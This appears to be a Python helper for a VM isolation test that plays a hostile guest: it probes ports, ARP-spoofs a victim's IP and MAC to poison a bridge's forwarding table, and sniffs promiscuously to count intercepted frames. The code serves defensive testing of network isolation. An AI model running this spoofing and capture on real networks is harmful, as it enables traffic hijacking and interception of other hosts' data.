"""A hostile guest (run as root in the `minimal` tier) for the isolation
VM test. Modes:

  probe IP PORT          connect, print what the peer sent or `fail: ...`
  spoof VICTIM_IP MAC DIR
      claim VICTIM_IP: add it to eth0 (our own agent, listening on every
      address, then answers on the agent ports for it) and keep sending gratuitous ARP (requests and replies, broadcast) for it,
      once with our own MAC and once with the victim's MAC as the frame's
      source (to poison the bridge's forwarding table); write `sent=N` to
      DIR/spoof.out. Whatever the daemon then sends to the victim's address and
      reaches us is counted by `sniff`.
  sniff VICTIM_IP DIR
      promiscuous capture of every frame eth0 receives; write
      `victim=N own=M` (frames to or from VICTIM_IP, and to or from our
      own address) to DIR/sniff.out

Both run from the moment they create DIR/<mode>.ready until DIR/stop
exists (at most 120 s), so the test can act while both certainly run.
"""
import socket
import struct
import subprocess
import sys
import os
import time

IFACE = "eth0"


def own_mac():
    with open(f"/sys/class/net/{IFACE}/address") as f:
        return f.read().strip()


def own_ip():
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", IFACE],
                         capture_output=True, text=True, check=True).stdout
    return out.split()[3].split("/")[0]


def gateway():
    out = subprocess.run(["ip", "-4", "route", "show", "default"],
                         capture_output=True, text=True).stdout.split()
    if "via" in out:
        return out[out.index("via") + 1]
    a = own_ip().split(".")
    return ".".join(a[:3] + ["1"])


def running(d, mode):
    """Marks `mode` ready once, then tells whether to go on."""
    ready = os.path.join(d, f"{mode}.ready")
    if not os.path.exists(ready):
        open(ready, "w").close()
        running.since = time.time()
    return not os.path.exists(os.path.join(d, "stop")) and time.time() - running.since < 120


def mac_bytes(m):
    return bytes.fromhex(m.replace(":", ""))


def arp_frame(op, src_mac, sender_mac, sender_ip, target_mac, target_ip, dst):
    return (mac_bytes(dst) + mac_bytes(src_mac) + b"\x08\x06"
            + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op)
            + mac_bytes(sender_mac) + socket.inet_aton(sender_ip)
            + mac_bytes(target_mac) + socket.inet_aton(target_ip))


def probe(ip, port):
    try:
        with socket.create_connection((ip, int(port)), timeout=3) as s:
            s.settimeout(3)
            data = s.recv(100)
            print(data.decode(errors="replace").strip() or "empty")
    except OSError as e:
        print(f"fail: {e}")


def spoof(victim, victim_mac, d):
    subprocess.run(["ip", "addr", "add", f"{victim}/32", "dev", IFACE], check=True)
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((IFACE, 0))
    mine, gw = own_mac(), gateway()
    bcast, zero = "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00"
    sent = 0
    while running(d, "spoof"):
        for src in (mine, victim_mac):
            for frame in (
                arp_frame(2, src, mine, victim, bcast, victim, bcast),
                arp_frame(1, src, mine, victim, zero, victim, bcast),
                arp_frame(2, src, mine, victim, zero, gw, bcast),
            ):
                try:
                    raw.send(frame)
                    sent += 1
                except OSError:
                    pass
        time.sleep(0.05)
    subprocess.run(["ip", "addr", "del", f"{victim}/32", "dev", IFACE])
    with open(os.path.join(d, "spoof.out"), "w") as f:
        f.write(f"sent={sent}\n")


def sniff(victim, d):
    subprocess.run(["ip", "link", "set", IFACE, "promisc", "on"], check=True)
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    raw.bind((IFACE, 0))
    raw.settimeout(0.2)
    vb, ob = socket.inet_aton(victim), socket.inet_aton(own_ip())
    counts = {"victim": 0, "own": 0}
    while running(d, "sniff"):
        try:
            frame, addr = raw.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] == socket.PACKET_OUTGOING:
            continue
        etype = frame[12:14]
        if etype == b"\x08\x00":
            addrs = (frame[26:30], frame[30:34])
        elif etype == b"\x08\x06":
            addrs = (frame[28:32], frame[38:42])
        else:
            continue
        if vb in addrs:
            counts["victim"] += 1
        if ob in addrs:
            counts["own"] += 1
    with open(os.path.join(d, "sniff.out"), "w") as f:
        f.write(f"victim={counts['victim']} own={counts['own']}\n")


if __name__ == "__main__":
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "probe":
        probe(*args)
    elif mode == "spoof":
        spoof(args[0], args[1], args[2])
    elif mode == "sniff":
        sniff(args[0], args[1])
    else:
        sys.exit(f"unknown mode {mode}")
